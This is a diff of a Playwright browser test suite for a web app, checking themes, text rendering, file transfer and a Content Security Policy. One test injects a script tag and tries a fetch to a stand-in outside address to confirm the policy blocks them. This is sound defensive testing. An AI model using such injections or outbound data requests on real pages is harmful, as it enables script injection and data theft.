@@ -2,27 +2,19 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page
+from playwright.sync_api import Page, expect
 
-from tests.helpers.browser import App, Watch, inject, saved, settled, visit
+from tests.helpers.browser import JOINER, MADE, App, Watch, inject, saved, settled, visit
+from tests.helpers.pages import MARKDOWN
 
 pytestmark = pytest.mark.browser
 
 
-@pytest.fixture(scope="module")
-def widgets(serve: Callable[[Path], App]) -> App:
-    return serve(Path(__file__).with_name("widgets_app.py"))
-
-
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_every_kind_of_element_works_under_the_policy(
-    new_page: Callable[..., Page], widgets: App, scheme: str
-) -> None:
-    page = visit(new_page(color_scheme=scheme), widgets.origin)
+def test_every_kind_of_element_works_under_the_policy_in_both_themes(page: Page, demos: App) -> None:
+    visit(page, f"{demos.origin}/?demo=widgets_page")
     page.get_by_text("bytes 1 2 3").wait_for()
     page.locator(".js-plotly-plot .heatmaplayer").wait_for()
     page.locator('[data-testid="stDataFrame"] canvas').first.wait_for()
@@ -32,16 +24,24 @@ def test_every_kind_of_element_works_under_the_policy(
     page.wait_for_function("(image) => image.naturalWidth === 8", arg=picture)
     icon = page.eval_on_selector('link[rel~="icon"]', "(link) => link.href")
     assert icon.startswith("data:image/svg+xml")
-    background = page.eval_on_selector(
-        '[data-testid="stApp"]', "(one) => getComputedStyle(one).backgroundColor"
-    )
-    assert background == {"light": "rgb(251, 250, 247)", "dark": "rgb(20, 20, 26)"}[scheme]
     fonts = page.eval_on_selector("h1", "(one) => getComputedStyle(one).fontFamily")
     assert "Source Serif" in fonts
+    for scheme, background in (("light", "rgb(251, 250, 247)"), ("dark", "rgb(20, 20, 26)")):
+        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
+        expect(page.get_by_test_id("stApp")).to_have_css("background-color", background)
 
 
-def test_a_file_goes_up_and_another_comes_down(page: Page, widgets: App) -> None:
-    visit(page, widgets.origin)
+def test_no_text_becomes_anything_but_text(page: Page, demos: App) -> None:
+    visit(page, f"{demos.origin}/?demo=widgets_page")
+    for kind in ("stCaptionContainer", "stWidgetLabel"):
+        places = page.locator(f'.st-key-plain [data-testid="{kind}"]')
+        expect(places).to_have_count(len(MARKDOWN))
+        assert [text.replace(JOINER, "").strip() for text in places.all_inner_texts()] == list(MARKDOWN)
+        assert places.locator(MADE).count() == 0
+
+
+def test_a_file_goes_up_and_another_comes_down(page: Page, demos: App) -> None:
+    visit(page, f"{demos.origin}/?demo=widgets_page")
     file = {"name": "some.txt", "mimeType": "text/plain", "buffer": b"its content"}
     page.locator('input[type="file"]').set_input_files(file)  # type: ignore[arg-type]
     page.get_by_text("Read its content").wait_for()
@@ -50,30 +50,19 @@ def test_a_file_goes_up_and_another_comes_down(page: Page, widgets: App) -> None
     assert Path(given.path()).read_text(encoding="utf-8") == "the file's text"
 
 
-def test_a_script_in_the_page_does_not_run(page: Page, widgets: App, watch: Watch) -> None:
-    """The policy is the second line of defence: should markup ever get in, it stays markup."""
-    visit(page, widgets.origin)
+def test_the_policy_blocks_injected_scripts_and_requests_to_other_hosts(
+    page: Page, demos: App, watch: Watch
+) -> None:
+    """The policy is the second line of defense: injected markup stays markup."""
+    visit(page, f"{demos.origin}/?demo=widgets_page")
     inject(page)
     page.evaluate(
         "document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned=1'}))"
     )
     assert page.evaluate("window.__pwned") is None
     assert any("Content Security Policy" in error for error in watch.errors)
-    watch.errors.clear()
-
-
-def test_nothing_can_be_sent_elsewhere(page: Page, widgets: App, watch: Watch) -> None:
-    visit(page, widgets.origin)
     send = "() => fetch('http://192.0.2.1/?text').then(() => 'sent', (error) => error.name)"
     assert page.evaluate(send) == "TypeError"
     # Refused by the page's own policy, before any request.
     assert watch.foreign == []
     watch.errors.clear()
-
-
-def test_every_page_has_an_address_the_front_page_too(page: Page, app: App) -> None:
-    visit(page, f"{app.origin}/tokens")
-    page.get_by_role("heading", name="Tokens", exact=True).wait_for()
-    visit(page, f"{app.origin}/attention?show=head-view")
-    page.locator('iframe[src*="/bertviz/"]').wait_for()
-    assert page.get_by_text("Page not found").count() == 0
